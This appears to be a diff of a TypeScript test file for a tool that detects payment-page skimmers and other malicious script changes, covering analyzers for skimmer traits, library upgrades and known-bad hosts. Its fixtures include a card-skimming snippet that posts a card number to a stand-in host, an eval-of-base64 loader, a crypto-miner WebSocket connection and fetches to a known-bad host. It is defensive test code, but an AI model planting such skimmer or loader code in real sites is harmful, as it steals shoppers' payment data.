@@ -4,12 +4,18 @@ import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import { runAnalyzers, withFindings } from '../../src/analyzers/run-analyzers.js';
 import { skimmerTraits } from '../../src/analyzers/skimmer-traits.js';
-import type { Analyzer, ScriptChange } from '../../src/analyzers/types.js';
+import type { Analyzer, FindingKind, ScriptChange } from '../../src/analyzers/types.js';
+import { rateChange } from '../../src/analyzers/rate.js';
+import { isLibraryVersionChange, libraryChange } from '../../src/analyzers/library-change.js';
+import { knownBadHost } from '../../src/analyzers/known-bad-host.js';
+import type { Severity } from '../../src/types.js';
 import type { PlannedAlert } from '../../src/plan.js';
+import { emptyIntel } from '../../src/intel/intel.js';
 
 const LIB = 'window.lib = { init: function (el) { el.classList.add("ready"); } };';
 const change = (newCode: string, oldCode: string | null = LIB): ScriptChange => ({
   oldCode, newCode, url: 'https://shop.example/lib.js', pageHost: 'shop.example', knownHosts: ['cdn.example'], paymentPage: true,
+  oldLibrary: null, newLibrary: null, knownBad: emptyIntel().knownBad,
 });
 const titles = (c: ScriptChange) => skimmerTraits.run(c).map((f) => `${f.severity}: ${f.title}`);
 
@@ -17,14 +23,14 @@ describe('skimmer-traits analyzer', () => {
   it('calls an appended listener-and-send a skimmer', () => {
     const found = titles(change(`${LIB}\ndocument.getElementById("pay").addEventListener("mouseup", function () {\n  var x = new XMLHttpRequest(); x.open("POST", "https://baways.example/gateway/api"); x.send(JSON.stringify({ n: document.forms[0].cardnumber.value }));\n});`));
     assert.ok(found.includes('critical: skimmer pattern: reads form input and sends it out'), found.join('\n'));
-    assert.ok(found.some((t) => t.includes('references new host baways.example')));
-    assert.ok(found.some((t) => t.includes('listens to mouseup events')));
+    assert.ok(found.some((t) => t.includes('references baways.example, a host not seen before')));
+    assert.ok(found.some((t) => t.includes('adds mouseup on #pay listener')), found.join('\n'));
   });
   it('sees obfuscated loaders and miners', () => {
     const loader = `${LIB}\n(0, window["eval"])(atob("${Buffer.from('x'.repeat(200)).toString('base64')}"));`;
-    assert.ok(titles(change(loader)).some((t) => t.startsWith('high: runs dynamic code')));
+    assert.ok(titles(change(loader)).some((t) => t.startsWith('high: runs code built at run time')));
     const miner = `${LIB}\nWebAssembly.instantiate(buf); var ws = new WebSocket("wss://pool.minexmr.example:443");`;
-    assert.ok(titles(change(miner)).includes('critical: crypto-miner traits'), titles(change(miner)).join('\n'));
+    assert.ok(titles(change(miner)).includes('critical: shows crypto-miner traits'), titles(change(miner)).join('\n'));
   });
   it('stays quiet on a change that adds none of these traits', () => {
     assert.deepEqual(titles(change(`${LIB}\nwindow.lib.version = "2.0";`)), []);
@@ -39,15 +45,51 @@ describe('runAnalyzers', () => {
   it('turns a throwing analyzer into an error finding and keeps the others', () => {
     const broken: Analyzer = { meta: { id: 'broken', title: 'throws', needs: [] }, run: () => { throw new Error('boom'); } };
     const findings = runAnalyzers(change(`${LIB};fetch("https://x.example/")`), [broken, skimmerTraits]);
-    assert.deepEqual(findings[0], { analyzer: 'broken', severity: 'info', title: 'analyzer failed', detail: 'boom' });
+    assert.deepEqual(findings.find((f) => f.analyzer === 'broken'), { analyzer: 'broken', severity: 'info', kind: 'error', title: 'analyzer failed', detail: 'boom' });
     assert.ok(findings.length > 1);
   });
   it('raises the alert to its worst finding and explains it in the summary', () => {
     const alert = { severity: 'medium', summary: 'Script x changed', details: {} } as PlannedAlert;
-    const enriched = withFindings(alert, [{ analyzer: 'a', severity: 'critical', title: 'skimmer pattern', detail: '' }]);
+    const enriched = withFindings(alert, [{ analyzer: 'a', severity: 'critical', kind: 'exfiltration', title: 'skimmer pattern', detail: '' }]);
     assert.equal(enriched.severity, 'critical');
     assert.equal(enriched.summary, 'Script x changed; skimmer pattern');
+    assert.equal(enriched.details.changeSummary, 'The new code skimmer pattern.');
     assert.equal(withFindings(alert, []).severity, 'medium');
+  });
+});
+
+describe('rateChange', () => {
+  const finding = (severity: Severity, kind: FindingKind) => ({ analyzer: 't', severity, kind, title: `${kind}`, detail: '' });
+  it('caps a recognised library upgrade at medium, whatever weak traits it adds', () => {
+    const weak = [finding('high', 'dynamic-code'), finding('high', 'obfuscation'), finding('medium', 'new-host')];
+    assert.equal(rateChange({ base: 'high', findings: weak, libraryUpgrade: true, immutable: false }), 'medium');
+    assert.equal(rateChange({ base: 'low', findings: weak, libraryUpgrade: false, immutable: false }), 'high');
+  });
+  it('never caps strong evidence or a changed immutable URL', () => {
+    for (const kind of ['exfiltration', 'known-bad', 'miner', 'lookalike'] as const) {
+      assert.equal(rateChange({ base: 'low', findings: [finding('critical', kind)], libraryUpgrade: true, immutable: false }), 'critical', kind);
+    }
+    assert.equal(rateChange({ base: 'critical', findings: [], libraryUpgrade: true, immutable: true }), 'critical');
+  });
+});
+
+describe('library-change and known-bad-host analyzers', () => {
+  const lib = (version: string, via: 'hash' | 'content' = 'content') => ({ name: 'jquery', version, via, vulnerabilities: [] });
+  it('names the versions of an upgrade and flags a same-version body change', () => {
+    const upgrade = libraryChange.run({ ...change('b'), oldLibrary: lib('3.6.0'), newLibrary: lib('3.7.1') });
+    assert.match(upgrade[0]!.title, /changes jquery 3\.6\.0 with jquery 3\.7\.1/);
+    assert.equal(isLibraryVersionChange({ oldLibrary: lib('3.6.0'), newLibrary: lib('3.7.1') }), true);
+    const tampered = libraryChange.run({ ...change('b'), oldLibrary: lib('3.6.0'), newLibrary: lib('3.6.0') });
+    assert.equal(tampered[0]!.severity, 'medium');
+    assert.match(tampered[0]!.title, /bytes changed/);
+  });
+  it('rates a script from or naming a known-bad host critical', () => {
+    const knownBad = { hosts: new Set(['polyfill.io']), sources: [] };
+    const served = knownBadHost.run({ ...change('x()'), url: 'https://cdn.polyfill.io/v3/polyfill.min.js', knownBad });
+    assert.equal(served[0]!.severity, 'critical');
+    const named = knownBadHost.run({ ...change(`${LIB}\nfetch("https://cdn.polyfill.io/x")`), knownBad });
+    assert.equal(named.length, 1);
+    assert.deepEqual(knownBadHost.run({ ...change(`${LIB}\nfetch("https://cdn.example/x")`), knownBad }), []);
   });
 });
 
